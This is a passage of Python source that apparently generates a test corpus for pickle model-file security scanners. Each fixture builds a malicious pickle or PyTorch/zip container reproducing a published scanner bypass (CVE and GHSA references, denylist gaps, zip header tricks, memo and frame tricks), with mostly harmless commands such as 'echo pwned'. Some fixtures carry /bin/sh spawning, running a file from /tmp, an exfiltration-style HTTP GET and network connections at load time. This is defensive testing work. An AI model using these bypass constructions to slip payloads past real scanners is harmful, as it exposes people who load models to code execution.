    technique="vm-gap: PUT with explicit indices", advisories=[], source="https://github.com/mmaitre314/picklescan/issues/22",
    bypassed=[PS], what="ImaginaryCTF 'Safe Pickle': PUT 2/3 before PUT 0/1, so memo order differs from write order", origin="picklescan issues",
)
def ps_ctf():
    p = P()
    p.unicode("os").put(2).pop().unicode("system").put(3).pop()
    p.unicode("torch").put(0).pop().unicode("LongStorage").put(1).pop()
    p.get(2).get(3).stack_global().mark().unicode("true").tuple_().reduce()
    return p.stop().bytes()


@fixture(
    "ps-keyerror_memo.pkl", "dangerous", ["os.system"], ["system('echo pwned by memo keyerror')"],
    technique="vm-gap: missing memo key", advisories=[], source="https://github.com/mmaitre314/picklescan/commit/d3273f4",
    bypassed=[PS], what="a dangerous call, then a BINGET of a missing memo key that crashed the scanner before it reported", origin="picklescan issues",
)
def ps_keyerror():
    p = P().proto(4).global_("os", "system").unicode("echo pwned by memo keyerror").tuple1().reduce().pop()
    p.sbu("os").memoize().binget(3).binget(0).stack_global().binint(0x42)
    return p.stop().bytes()


@fixture(
    "ps-type_confusion_memo.pkl", "dangerous", ["os.system"], ["system('echo type-confusion')"],
    technique="vm-gap: non-string STACK_GLOBAL operand", advisories=[], source="https://github.com/mmaitre314/picklescan/commit/d3273f4",
    bypassed=[PS], what="a dangerous call, then STACK_GLOBAL of (42, 'os') that crashed the scanner", origin="picklescan issues",
)
def ps_type_confusion():
    p = P().proto(4).global_("os", "system").unicode("echo type-confusion").tuple1().reduce().pop()
    p.raw(b"J" + struct.pack("<i", 42)).memoize().sbu("os").memoize().binget(0).binget(1).stack_global().binint(0x42)
    return p.stop().bytes()


@fixture(
    "ps-sour_pickles.pkl", "dangerous", ["builtins.eval", "builtins.compile", "builtins.dict.get", "builtins.globals"], ["compile("],
    technique="classic: __builtin__ via protocol 0", advisories=[], source="https://sensepost.com/cms/resources/conferences/2011/sour_pickles/BH_US_11_Slaviero_Sour_Pickles.pdf",
    bypassed=[], what="Sour Pickles (Black Hat 2011): globals/compile/eval/getattr/apply under the Python-2 name `__builtin__`", origin="picklescan corpus",
)
def ps_sour():
    return (
        b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'fl=open(\"/dev/null\");picklesmashed=fl.read();"
        + b"'\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\n"
        + b"dict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'picklesmashed'\nltRp104\n0g104\n."
    )


@fixture(
    "ps-inst_exec.pkl", "dangerous", ["builtins.exec"], ["exec(", "system('true')"],
    technique="INST opcode (protocol 0)", advisories=[], source="https://github.com/mmaitre314/picklescan/pull/21",
    bypassed=[PS], what="`INST __builtin__ exec`: call without REDUCE", origin="picklescan issues",
)
def ps_inst():
    return b"(S'__import__(\\'os\\').system(\\'true\\')'\ni__builtin__\nexec\n."


@fixture(
    "ps-broken_exec.pkl", "dangerous", ["builtins.exec"], ["exec("],
    technique="broken stream after the payload", advisories=[], source="https://github.com/mmaitre314/picklescan/pull/33",
    bypassed=[MS], what="`builtins.exec` called, then an invalid stream: the scanner aborted on the error", origin="picklescan corpus",
)
def ps_broken():
    # picklescan's broken_model.pkl: exec(code) is called, then BINUNICODE without its length
    code = b"f = open('/dev/null', 'a'); f.write('Malicious'); f.close()"
    return b"cbuiltins\nexec\n(X" + struct.pack("<I", len(code)) + code + b"tRX."


@fixture(
    "ps-GHSA-97f8-7cmv-76j2-magic_eval.pt", "dangerous", ["builtins.eval", "posix.system"], ["system('echo pwned')"],
    container="torch-legacy", technique="container: legacy magic number computed by eval", advisories=["GHSA-97f8-7cmv-76j2"],
    source=ps_adv("GHSA-97f8-7cmv-76j2"), bypassed=[PS, MS],
    what="legacy torch file whose magic number is `eval('0x1950A86A20F9469CFC6C')`; the payload sits in the 5th pickle", origin="picklescan advisories",
)
def ps_magic_eval():
    parts = [
        P().proto(2).global_("__builtin__", "eval").str_("0x1950A86A20F9469CFC6C").tuple1().reduce().stop().bytes(),
        P().proto(2).binint(1001).stop().bytes(),
        P().proto(2).empty_dict().stop().bytes(),
        P().proto(2).empty_list().stop().bytes(),
        P().proto(2).global_("posix", "system").str_(ECHO).tuple1().reduce().stop().bytes(),
        P().proto(2).none().stop().bytes(),
    ]
    return b"".join(parts)


# --- picklescan / JFrog / Sonatype: containers ------------------------------------------------

EVAL_PKL = call4("builtins", "eval", "print('456')")
EVAL_GLOBALS = ["builtins.eval"]
EVAL_CALLS = ["eval('print(\\'456\\')')"]


@fixture(
    "jfrog-CVE-2025-10155-proto4.bin", "dangerous", ["asyncio.unix_events._UnixSubprocessTransport._start"], ["_start("],
    container="pickle", technique="container: raw pickle with a PyTorch extension", advisories=["CVE-2025-10155", "GHSA-jgw4-cr84-mqxg"],
    source=ps_adv("GHSA-jgw4-cr84-mqxg"), bypassed=[PS],
    what="a plain pickle named `.bin`: the scanner took the PyTorch path, failed on the magic number and reported an error with no globals", origin="JFrog (picklescan zero-days)",
)
def jfrog_bin_proto4():
    p = P().proto(4).frame(0x51)
    p.sg("asyncio.unix_events", "_UnixSubprocessTransport._start", memo=True)
    p.mark().empty_dict().memoize().str_(ECHO).memoize().true().none().none().none().binint(0).tuple_().memoize().reduce().memoize()
    b = p.stop().bytes()
    return b[:2] + b"\x95" + struct.pack("<Q", len(b) - 11) + b[11:]


@fixture(
    "jfrog-CVE-2025-10155-proto0.bin", "dangerous", ["posix.system"], ["system('echo pwned')"],
    container="pickle", technique="container: protocol-0 pickle with a PyTorch extension (no \\x80 magic)", advisories=["CVE-2025-10155", "GHSA-jgw4-cr84-mqxg"],
    source="https://github.com/promptfoo/modelaudit/pull/605", bypassed=[PS, MA],
    what="protocol-0 pickle as `pytorch_model.bin`: no PROTO byte, so magic-byte sniffing misses it", origin="JFrog (picklescan zero-days)",
)
def jfrog_bin_proto0():
    return call0("posix", "system", ECHO)


@fixture(
    "jfrog-CVE-2025-10156-crc.pt", "dangerous", EVAL_GLOBALS, ["eval("],
    container="torch-zip", technique="container: zip CRC mismatch", advisories=["CVE-2025-10156", "GHSA-mjqp-26hc-grxg"],
    source=ps_adv("GHSA-mjqp-26hc-grxg"), bypassed=[PS, MS],
    what="data.pkl whose stored CRC-32 is wrong: Python's zipfile raises, torch's reader does not check it", origin="JFrog (picklescan zero-days)",
)
def jfrog_crc():
    # the CRC-32 of data.pkl is wrong in both the local and the central header
    members = [
        Member("archive/data.pkl", EVAL_PKL, crc=(zlib.crc32(EVAL_PKL) ^ 0xDEADBEEF) & 0xFFFFFFFF),
        Member("archive/byteorder", b"little"),
        Member("archive/version", b"3\n"),
    ]
    return build_zip(members, align=64)


@fixture(
    "jfrog-CVE-2025-10157-submodule.pkl", "dangerous", ["asyncio.unix_events._UnixSubprocessTransport._start"], ["_start({}, 'echo pwned'"],
    technique="denylist-gap: submodule of a denylisted module", advisories=["CVE-2025-10157", "GHSA-f7qq-56ww-84cr", "GHSA-gx77-x2pv-48v7"],
    source=ps_adv("GHSA-f7qq-56ww-84cr"), bypassed=[PS, MS],
    what="`asyncio` was denied as a module name only: `asyncio.unix_events` (a submodule) passed", origin="JFrog (picklescan zero-days)",
)
def jfrog_submodule():
    p = P().proto(4)
    p.sg("asyncio.unix_events", "_UnixSubprocessTransport._start", memo=True)
    p.mark().empty_dict().memoize().str_(ECHO).memoize().true().none().none().none().binint(0).tuple_().memoize().reduce().memoize()
    b = p.stop().bytes()
    return b[:2] + b"\x95" + struct.pack("<Q", len(b) - 2) + b[2:]


@fixture(
    "sonatype-CVE-2025-1889-wrong_ext.zip", "dangerous", EVAL_GLOBALS, ["eval("],
    container="zip", technique="container: pickle member with a non-pickle extension", advisories=["CVE-2025-1889", "GHSA-769v-p64c-89pr"],
    source=ps_adv("GHSA-769v-p64c-89pr"), bypassed=[PS, MS],
    what="zip member `data.txt` holding a pickle: members were chosen by extension", origin="Sonatype (picklescan CVEs)",
)
def sonatype_wrong_ext():
    return build_zip([Member("data.txt", EVAL_PKL)])


@fixture(
    "sonatype-CVE-2025-1944-name_mismatch.pt", "dangerous", EVAL_GLOBALS, ["eval("],
    container="torch-zip", technique="container: local header name differs from central directory", advisories=["CVE-2025-1944", "GHSA-7q5r-7gvp-wc82"],
    source=ps_adv("GHSA-7q5r-7gvp-wc82"), bypassed=[PS, MS],
    what="local file header says `datap.kl`, central directory says `data.pkl`: zipfile raises, torch loads", origin="Sonatype (picklescan CVEs)",
)
def sonatype_name_mismatch():
    return build_zip(
        [Member("archive/data.pkl", EVAL_PKL, local_name="archive/datap.kl"), Member("archive/byteorder", b"little"), Member("archive/version", b"3\n")],
        align=64,
    )


for _bit in (0x1, 0x20, 0x40):

    def _b(bit=_bit):
        return build_zip([Member("model/config.pkl", EVAL_PKL, flags=bit)])

    _b.__name__ = f"sonatype_flag_{_bit:#x}"
    fixture(
        f"sonatype-CVE-2025-1945-flag{_bit:#x}.zip", "dangerous", EVAL_GLOBALS, ["eval("],
        container="zip", technique=f"container: zip general-purpose flag bit {_bit:#x}",
        advisories=["CVE-2025-1945", "GHSA-w8jq-xcqf-f792"], source=ps_adv("GHSA-w8jq-xcqf-f792"), bypassed=[PS, MS],
        what={0x1: "'encrypted' bit set on an unencrypted member", 0x20: "'compressed patched data' bit", 0x40: "'strong encryption' bit"}[_bit]
        + ": Python's zipfile refuses the member, PyTorch ignores the flag",
        origin="Sonatype (picklescan CVEs)",
    )(_b)


@fixture(
    "ms-issue354-corrupt_entry_first.pt", "dangerous", EVAL_GLOBALS, ["eval("],
    container="torch-zip", technique="container: corrupt member before data.pkl (fail-open iterator)", advisories=[],
    source="https://github.com/protectai/modelscan/issues/354", bypassed=[MS],
    what="a member with a broken local header comes first; the scanner's loop aborted and reported clean, torch reads data.pkl by name", origin="modelscan issues",
)
def ms_corrupt_first():
    return build_zip(
        [
            Member("archive/.data/serialization_id", b"0123456789", local_sig=b"PK\x07\x08"),
            Member("archive/data.pkl", EVAL_PKL),
            Member("archive/byteorder", b"little"),
            Member("archive/version", b"3\n"),
        ],
        align=64,
    )


@fixture(
    "ma-hidden_member.pt", "dangerous", ["posix.system"], ["system('echo pwned')"],
    container="torch-zip", technique="container: extra extension-less pickle member", advisories=[],
    source="https://github.com/promptfoo/modelaudit/pull/1043", bypassed=[MS, FK],
    what="a benign data.pkl plus an extra pickle member `archive/extra` without extension (loaded by custom code)", origin="ModelAudit",
)
def ma_hidden():
    benign = P().proto(2).empty_dict().stop().bytes()
    return build_zip(
        [
            Member("archive/data.pkl", benign),
            Member("archive/extra", call2("posix", "system", ECHO)),
            Member("archive/byteorder", b"little"),
            Member("archive/version", b"3\n"),
        ],
        align=64,
    )


@fixture(
    "ps-duplicate_names.pt", "dangerous", ["posix.system"], ["system('echo pwned')"],
    container="torch-zip", technique="container: two members with one name", advisories=[],
    source="https://github.com/mmaitre314/picklescan/blob/main/src/picklescan/relaxed_zipfile.py", bypassed=[],
    what="two `archive/data.pkl` entries, benign first and malicious last: readers disagree on which one wins", origin="container tricks",
)
def dup_names():
    benign = P().proto(2).empty_dict().stop().bytes()
    return build_zip(
        [
            Member("archive/data.pkl", benign),
            Member("archive/byteorder", b"little"),
            Member("archive/version", b"3\n"),
            Member("archive/data.pkl", call2("posix", "system", ECHO)),
        ],
        align=64,
    )


# --- ReversingLabs nullifAI --------------------------------------------------------------------

BROKEN = call2("posix", "system", ECHO)[:-1] + b"\x00" + b"garbage"


@fixture(
    "rl-nullifai-broken.pkl", "dangerous", ["posix.system"], ["system('echo pwned')"],
    technique="broken pickle: valid malicious prefix, then a corrupt byte", advisories=[],
    source="https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face", bypassed=[PS],
    what="payload at the start of the stream, then an invalid opcode before STOP: pickle.load runs the payload, then fails", origin="ReversingLabs nullifAI",
)
def rl_broken():
    return BROKEN


@fixture(
    "rl-nullifai-7z.pt", "dangerous", ["posix.system"], [],
    container="7z", technique="container: PyTorch model compressed with 7z instead of zip; broken pickle inside", advisories=[],
    source="https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face", bypassed=[PS],
    what="7z archive (Copy method) holding a broken malicious data.pkl; torch.load cannot open it, but custom loaders can", origin="ReversingLabs nullifAI",
)
def rl_7z():
    return build_7z("glockr1/data.pkl", BROKEN)


# --- modelscan issues ------------------------------------------------------------------------


@fixture(
    "ms-issue330-numpy_builtins.pkl", "dangerous", ["numpy.__builtins__"], ["'eval'"],
    technique="attribute namespace: STACK_GLOBAL('numpy','__builtins__') + BUILD", advisories=[],
    source="https://github.com/protectai/modelscan/issues/330", bypassed=[MS],
    what="`numpy.__builtins__` dict put into `numpy.size.__dict__` by BUILD, then `getattr`-free access to eval via REDUCE", origin="modelscan issues",
)
def ms_numpy_builtins():
    # the bytes, with the command replaced by `true`
    p = P().proto(4).frame(0)
    p.sbu("numpy").sbu("size").stack_global().memoize().memoize()
    p.sbu("numpy").sbu("__builtins__").stack_global().memoize().memoize()
    p.binget(1).empty_dict().empty_dict().sbu("shape").binget(3).setitem().tuple2().build()
    p.binget(1).binget(1).sbu("eval").tuple2().reduce()
    p.sbu(PY).tuple1().reduce()
    b = p.stop().bytes()
    return b[:2] + b"\x95" + struct.pack("<Q", len(b) - 11) + b[11:]


@fixture(
    "ms-issue85-build_setattr.pkl", "dangerous", ["numpy.prod"], [],
    technique="BUILD slotstate setattr on an allowed global, then STACK_GLOBAL from memo", advisories=[],
    source="https://github.com/protectai/modelscan/issues/85", bypassed=[MS],
    what="BUILD sets `numpy.prod.a='os'`, `numpy.prod.b='system'`; a dotted GLOBAL reads them back; STACK_GLOBAL resolves to os.system at load time", origin="modelscan issues",
)
def ms_build_setattr():
    p = P().proto(5).global_("numpy", "prod")
    p.none().mark().unicode("a").unicode("os").dict_().tuple2().build()
    p.none().mark().unicode("b").unicode("system").dict_().tuple2().build()
    p.pop().global_("numpy", "prod.a").put(0).global_("numpy", "prod.b").put(1).pop().pop()
    p.get(0).get(1).stack_global().unicode(ECHO).tuple1().reduce()
    return p.stop().bytes()


@fixture(
    "ms-issue331-importlib_join.pkl", "dangerous", ["importlib.import_module", "importlib.import_module.system"], ["import_module('builtins')"],
    technique="resolver + computed strings ('os' = ''.join(['o','s']))", advisories=[],
    source="https://github.com/protectai/modelscan/issues/331", bypassed=[MS],
    what="`importlib.import_module` plus `getattr(str,'join')` to compute the module and attribute names at load time", origin="modelscan issues",
)
def ms_importlib_join():
    p = P().proto(4)
    p.sg("importlib", "import_module").memoize()  # memo 0
    p.str_("builtins").tuple1().reduce().memoize()  # memo 1 = builtins module
    p.sg("builtins", "getattr").memoize()  # memo 2
    # getattr(getattr(builtins, 'str'), 'join')('', ['o','s']) -> 'os'
    p.binget(2).binget(2).binget(1).str_("str").tuple2().reduce().str_("join").tuple2().reduce()
    p.str_("").empty_list().mark().str_("o").str_("s").appends().tuple2().reduce().memoize()  # memo 3 = 'os'
    p.binget(0).binget(3).tuple1().reduce().memoize()  # memo 4 = os module
    p.binget(2).binget(4).str_("system").tuple2().reduce()
    p.str_(ECHO).tuple1().reduce()
    return p.stop().bytes()


MS338 = [
    ("torch.library", "torch.utils.collect_env.run", ("true",), "dotted walk from an innocuous module to collect_env.run", "torch.library.torch.utils.collect_env.run"),
    ("multiprocessing.util", "spawnv_passfds", (b"/bin/sh", ("/bin/sh", "-c", ECHO), ()), "fork/exec of /bin/sh", None),
    ("mlflow.projects.backend.local", "_run_entry_point", (ECHO, ".", "", ""), "runs an entry-point shell command", None),
    ("pandas.io.parsers.readers", "read_csv", ("https://example.invalid/?pwned=pandas_bypass",), "HTTP GET for exfiltration", None),
]
for _m, _n, _a, _what, _glob in MS338:

    def _b(m=_m, n=_n, a=_a):
        return call4(m, n, *a, proto=4)

    _b.__name__ = f"ms_issue338_{_slug(_n)}"
    fixture(
        f"ms-issue338-{_slug(_n.split('.')[-1])}.pkl", "dangerous", [_glob or f"{_m}.{_n}"], [f"{_n.split('.')[-1]}("],
        technique="denylist-gap (seen in Hugging Face malware)" + (", dotted-name" if "." in _n else ""), advisories=[],
        source="https://github.com/protectai/modelscan/issues/338", bypassed=[MS],
        what=f"`{_m}.{_n}`: {_what}", origin="modelscan issues",
    )(_b)


@fixture(
    "ms-issue267-nested_pickle_loads.pkl", "dangerous", ["pickle.loads"], ["loads(b'"],
    technique="nested pickle: pickle.loads of an embedded malicious pickle", advisories=[],
    source="https://github.com/protectai/modelscan/issues/267", bypassed=[MS],
    what="`pickle.loads(b'...')` whose bytes are themselves a `posix.system` pickle", origin="modelscan issues",
)
def ms_nested():
    inner = call2("posix", "system", ECHO)
    return call4("pickle", "loads", inner)


# --- fickling advisories ----------------------------------------------------------------------


@fixture(
    "fk-GHSA-r7v6-mfhq-g3m2-pty_build.pkl", "dangerous", ["pty.spawn"], ["spawn('true')"],
    technique="denylist-gap", advisories=["GHSA-r7v6-mfhq-g3m2"], source=fk_adv("GHSA-r7v6-mfhq-g3m2"), bypassed=[FK],
    what="`pty.spawn` followed by BUILD so the result is not an unused variable", origin="fickling advisories",
)
def fk_pty():
    p = P().proto(4).frame(26).sg("pty", "spawn", memo=True).str_("true").memoize().tuple1().memoize().reduce().memoize()
    p.str_("gottem").memoize().build()
    return p.stop().bytes()


@fixture(
    "fk-PR108-pty_obj.pkl", "dangerous", ["pty.spawn"], ["spawn('true')"],
    technique="OBJ opcode call", advisories=[], source="https://github.com/trailofbits/fickling/pull/108", bypassed=[FK],
    what="`MARK GLOBAL pty spawn STRING OBJ`: call through OBJ instead of REDUCE", origin="fickling advisories",
)
def fk_pty_obj():
    return P().mark().global_("pty", "spawn").string("true").obj().stop().bytes()


@fixture(
    "fk-GHSA-565g-hwwr-4pp3-marshal.pkl", "dangerous", ["marshal.loads", "types.FunctionType"], ["loads(b'"],
    technique="denylist-gap: code object via marshal", advisories=["GHSA-565g-hwwr-4pp3"], source=fk_adv("GHSA-565g-hwwr-4pp3"), bypassed=[FK, PS, MS],
    what="`types.FunctionType(marshal.loads(code), {})()`", origin="fickling advisories",
)
def fk_marshal():
    code = b"\xe3" + b"\x00" * 24 + b"s\x04\x00\x00\x00\x97\x00y\x00)\x01N\xa9\x00"  # inert code-object-like bytes
    p = P().proto(4).frame(0).sg("marshal", "loads").memoize().binget(0).binbytes(code).tuple1().reduce().memoize()
    p.sg("types", "FunctionType").memoize().binget(2).binget(1).empty_dict().tuple2().reduce().memoize()
    p.binget(3).empty_tuple().reduce().memoize().str_("gottem").build()
    return p.stop().bytes()


@fixture(
    "fk-GHSA-wfq2-52f7-7qvj-runpy.pkl", "dangerous", ["runpy.run_path"], ["run_path('/tmp/malicious.py')"],
    technique="denylist-gap", advisories=["GHSA-wfq2-52f7-7qvj", "GHSA-q5qq-mvfm-j35x"], source=fk_adv("GHSA-wfq2-52f7-7qvj"), bypassed=[FK],
    what="`runpy.run_path(file)` runs a Python file", origin="fickling advisories",
)
def fk_runpy():
    return call4("runpy", "run_path", "/tmp/malicious.py", proto=5)


@fixture(
    "fk-GHSA-p523-jq9w-64x9-cprofile.pkl", "dangerous", ["cProfile.run"], ["run(\"print('x')\")"],
    technique="denylist-gap", advisories=["GHSA-p523-jq9w-64x9"], source=fk_adv("GHSA-p523-jq9w-64x9"), bypassed=[FK],
    what="`cProfile.run(code)` execs a string", origin="fickling advisories",
)
def fk_cprofile():
    return call4("cProfile", "run", "print('x')", proto=5)


def _getattr_chain(module: str, name: str, ctor_args: tuple, attr: str, call_arg) -> bytes:
    """getattr(module.name(*ctor_args), attr)(call_arg), as in fickling's tests."""
    p = P().proto(5)
    p.sg("builtins", "getattr", memo=True)
    p.sg(module, name, memo=True)
    args(p, ctor_args)
    p.memoize().reduce().memoize()
    p.str_(attr).memoize().tuple2().memoize().reduce().memoize()
    args(p, (call_arg,))
    p.memoize().reduce().memoize()
    return p.stop().bytes()


@fixture(
    "fk-GHSA-5hvc-6wx8-mvv4-ctypes.pkl", "dangerous", ["ctypes.CDLL", "ctypes.CDLL.system"], ["CDLL('libc.so.6')"],
    technique="denylist-gap", advisories=["GHSA-5hvc-6wx8-mvv4", "GHSA-q5qq-mvfm-j35x"], source=fk_adv("GHSA-5hvc-6wx8-mvv4"), bypassed=[FK],
    what="`getattr(ctypes.CDLL('libc.so.6'), 'system')(b'true')`", origin="fickling advisories",
)
def fk_ctypes():
    return _getattr_chain("ctypes", "CDLL", ("libc.so.6",), "system", b"true")


@fixture(
    "fk-GHSA-5hvc-6wx8-mvv4-pydoc_locate.pkl", "dangerous", ["pydoc.locate"], ["locate('os.system')"],
    technique="denylist-gap, resolver", advisories=["GHSA-5hvc-6wx8-mvv4"], source=fk_adv("GHSA-5hvc-6wx8-mvv4"), bypassed=[FK],
    what="`pydoc.locate('os.system')('true')`", origin="fickling advisories",
)
def fk_pydoc_locate():
    p = P().proto(5).sg("pydoc", "locate", memo=True).str_("os.system").memoize().tuple1().memoize().reduce().memoize()
    p.str_("true").memoize().tuple1().memoize().reduce().memoize()
    return p.stop().bytes()


@fixture(
    "fk-GHSA-q5qq-mvfm-j35x-importlib.pkl", "dangerous", ["importlib.import_module", "importlib.import_module.system"], ["import_module('os')"],
    technique="denylist-gap, resolver", advisories=["GHSA-q5qq-mvfm-j35x"], source=fk_adv("GHSA-q5qq-mvfm-j35x"), bypassed=[FK, PS, MS],
    what="`getattr(importlib.import_module('os'), 'system')('true')`", origin="fickling advisories",
)
def fk_importlib():
    return _getattr_chain("importlib", "import_module", ("os",), "system", "true")


@fixture(
    "fk-GHSA-q5qq-mvfm-j35x-code_runsource.pkl", "dangerous", ["code.InteractiveInterpreter", "code.InteractiveInterpreter.runsource"], ["InteractiveInterpreter()"],
    technique="denylist-gap", advisories=["GHSA-q5qq-mvfm-j35x"], source=fk_adv("GHSA-q5qq-mvfm-j35x"), bypassed=[FK, PS],
    what="`getattr(code.InteractiveInterpreter(), 'runsource')(src)`", origin="fickling advisories",
)
def fk_code():
    return _getattr_chain("code", "InteractiveInterpreter", (), "runsource", PY)


@fixture(
    "fk-GHSA-q5qq-mvfm-j35x-spawnv_passfds.pkl", "dangerous", ["multiprocessing.util.spawnv_passfds"], ["spawnv_passfds(b'/bin/sh'"],
    technique="denylist-gap", advisories=["GHSA-q5qq-mvfm-j35x"], source=fk_adv("GHSA-q5qq-mvfm-j35x"), bypassed=[FK, PS, MS],
    what="`multiprocessing.util.spawnv_passfds(b'/bin/sh', [b'/bin/sh', b'-c', b'true'], ())`", origin="fickling advisories",
)
def fk_spawnv():
    p = P().proto(5).frame(74).sg("multiprocessing.util", "spawnv_passfds", memo=True)
    p.binbytes(b"/bin/sh").memoize().empty_list().memoize().mark().binget(3).binbytes(b"-c").memoize().binbytes(b"true").memoize().appends()
    p.empty_tuple().tuple3().memoize().reduce().memoize()
    return p.stop().bytes()


@fixture(
    "fk-GHSA-h4rm-mm56-xf63-import_getattr.pkl", "dangerous", ["builtins.__import__", "builtins.__import__.system"], ["getattr("],
    technique="protocol 0 PUT/GET chaining", advisories=["GHSA-h4rm-mm56-xf63"], source=fk_adv("GHSA-h4rm-mm56-xf63"), bypassed=[FK],
    what="`getattr(__import__('os'), 'system')('true')` with results carried through PUT/GET", origin="fickling advisories",
)
def fk_import_getattr():
    p = P().global_("builtins", "__import__").string("os").tuple1().reduce().put(0).pop()
    p.global_("builtins", "getattr").get(0).string("system").tuple2().reduce().put(1).pop()
    p.get(1).string("true").tuple1().reduce()
    return p.stop().bytes()


@fixture(
    "fk-GHSA-mxhj-88fx-4pcv-obj_pop.pkl", "dangerous", ["smtplib.SMTP"], ["SMTP('127.0.0.1')"],
    technique="call whose result is discarded (OBJ then POP)", advisories=["GHSA-mxhj-88fx-4pcv"], source=fk_adv("GHSA-mxhj-88fx-4pcv"), bypassed=[FK],
    what="`smtplib.SMTP('127.0.0.1')` via OBJ, popped so a decompiler drops it", origin="fickling advisories",
)
def fk_obj_pop():
    return P().proto(4).mark().sg("smtplib", "SMTP").sbu("127.0.0.1").obj().pop().none().stop().bytes()


for _m, _n, _a in [("uuid", "_get_command_stdout", ("echo", "PROOF_OF_CONCEPT")), ("_aix_support", "_read_cmd_output", ("echo PROOF_OF_CONCEPT",)), ("_osx_support", "_find_build_tool", ("x; echo INJECTED #",))]:

    def _b(m=_m, n=_n, a=_a):
        return call4(m, n, *a, memo=False)

    _b.__name__ = f"fk_GHSA_5hwf_{_slug(_m)}"
    fixture(
        f"fk-GHSA-5hwf-rc88-82xm-{_slug(_m)}.pkl", "dangerous", [f"{_m}.{_n}"], [f"{_n}("],
        technique="denylist-gap", advisories=["GHSA-5hwf-rc88-82xm"], source=fk_adv("GHSA-5hwf-rc88-82xm"), bypassed=[FK],
        what=f"`{_m}.{_n}` runs a command", origin="fickling advisories",
    )(_b)


@fixture(
    "fk-GHSA-5j3x-jp52-966f-pathlib_os_system.pkl", "dangerous", ["pathlib.os.system"], ["system()"],
    technique="dotted-name: attribute walk from an innocuous module", advisories=["GHSA-5j3x-jp52-966f"], source=fk_adv("GHSA-5j3x-jp52-966f"), bypassed=[FK, PS, MS],
    what="`STACK_GLOBAL('pathlib', 'os.system')`: pathlib imports os, the unpickler walks `.os.system`", origin="fickling advisories",
)
def fk_pathlib():
    return P().proto(4).sbu("pathlib").sbu("os.system").stack_global().empty_tuple().reduce().stop().bytes()


for _mod in ("_interpreters", "_xxsubinterpreters"):

    def _b(m=_mod):
        return P().proto(4).sbu(m).sbu("create").stack_global().empty_tuple().reduce().stop().bytes()

    _b.__name__ = f"fk_GHSA_6ggj_{_mod}"
    fixture(
        f"fk-GHSA-6ggj-6f2q-f7mx-{_mod}.pkl", "dangerous", [f"{_mod}.create"], ["create()"],
        technique="denylist-gap", advisories=["GHSA-6ggj-6f2q-f7mx"], source=fk_adv("GHSA-6ggj-6f2q-f7mx"), bypassed=[FK],
        what=f"`{_mod}.create()`: private sub-interpreter API (runs code strings)", origin="fickling advisories",
    )(_b)


for _m, _c, _port in [("smtplib", "SMTP", 25), ("imaplib", "IMAP4", 143), ("ftplib", "FTP", 21), ("poplib", "POP3", 110), ("telnetlib", "Telnet", 23), ("nntplib", "NNTP", 119)]:

    def _b(m=_m, c=_c, port=_port):
        return P().proto(4).global_(m, c).sbu("127.0.0.1").binint(port).tuple2().reduce().empty_dict().build().stop().bytes()

    _b.__name__ = f"fk_ssrf_{_m}"
    fixture(
        f"fk-ssrf-{_m}.pkl", "dangerous", [f"{_m}.{_c}"], [f"{_c}('127.0.0.1', {_port})"],
        technique="denylist-gap: network client (SSRF)", advisories=[], source="https://github.com/trailofbits/fickling/blob/master/test/test_bypasses.py",
        bypassed=[PS, MS], what=f"`{_m}.{_c}(host, port)` opens a connection at load time", origin="fickling advisories",
    )(_b)


@fixture(
    "fk-cpython154848-frame_straddle.pkl", "suspicious", [], [],
    technique="FRAME boundary divergence (opcode straddles a frame)", advisories=[], source="https://github.com/python/cpython/issues/154848",
    bypassed=[FK],
    what="BINBYTES declares 0x107 bytes inside a 2-byte frame: pickletools sees a long bytestring, C `pickle.load(file)` can run the buried `os.system` GLOBAL/REDUCE", origin="fickling advisories",
)
def fk_frame_straddle():
    hidden = b"c" + b"os\nsystem\n" + b"V" + b"echo pwned\n" + b"\x85" + b"R"
    return (
        b"\x80\x05" + b"N" + b"V" + b"a" * (8192 * 16 - 17) + b"\n" + b"0" + b"(" + b"\x95" + struct.pack("<Q", 2)
        + b"B" + b"\x07\x01\x00\x00" + b"\x00\x00" + (hidden + b"(").ljust(256 + 5, b"N") + b"1" + b"."
    )


# --- picklescan issue #66 / PR #74, HF PoCs -------------------------------------------------


@fixture(
    "ps-issue66-getattr_static.pkl", "dangerous", ["importlib.import_module", "inspect.getattr_static"], ["getattr_static("],
    technique="resolver: importlib + inspect.getattr_static", advisories=["GHSA-vvpj-8cmc-gx39"], source="https://github.com/mmaitre314/picklescan/issues/66",
    bypassed=[PS, MS], what="`inspect.getattr_static(importlib.import_module('os'), 'system')('true')` (HF xry6/huntr-picklescan-bypass-poc, exit 0 on picklescan 1.0.4)", origin="picklescan issues",
)
def ps_getattr_static():
    p = P().proto(4).sg("inspect", "getattr_static", memo=True)
    p.sg("importlib", "import_module", memo=True).str_("os").tuple1().reduce().memoize()
    p.str_("system").tuple2().reduce().memoize().str_("true").tuple1().reduce()
    return p.stop().bytes()


@fixture(
    "ps-PR74-importlib_reduce.pkl", "dangerous", ["importlib.import_module"], ["import_module('os')"],
    technique="resolver", advisories=[], source="https://github.com/mmaitre314/picklescan/pull/74", bypassed=[PS, MS],
    what="`importlib.import_module('os')` as the reduce callable", origin="picklescan issues",
)
def ps_importlib():
    return call4("importlib", "import_module", "os")


@fixture(
    "ps-PR74-marshal_loads.pkl", "dangerous", ["marshal.loads"], ["loads(b'"],
    technique="code object via marshal", advisories=[], source="https://github.com/mmaitre314/picklescan/pull/74", bypassed=[PS, MS],
    what="`marshal.loads(bytes)` rebuilds a code object", origin="picklescan issues",
)
def ps_marshal():
    return call4("marshal", "loads", b"\xe3\x00\x00\x00\x00")


# --- dotted names (local reproduction against picklescan 1.0.5 / modelscan 0.8.8) -------------------------------------------------------------

for _mod in ("sysconfig", "torch.serialization"):

    def _b(m=_mod):
        return P().proto(4).sbu(m).sbu("os.system").stack_global().sbu("echo hi").tuple1().reduce().stop().bytes()

    _b.__name__ = f"dotted_{_slug(_mod)}"
    fixture(
        f"t13-dotted-{_slug(_mod)}-os_system.pkl", "dangerous", [f"{_mod}.os.system"], ["system('echo hi')"],
        technique="dotted-name: attribute walk through a module that imports os", advisories=[], source="https://github.com/trailofbits/fickling/security/advisories/GHSA-5j3x-jp52-966f",
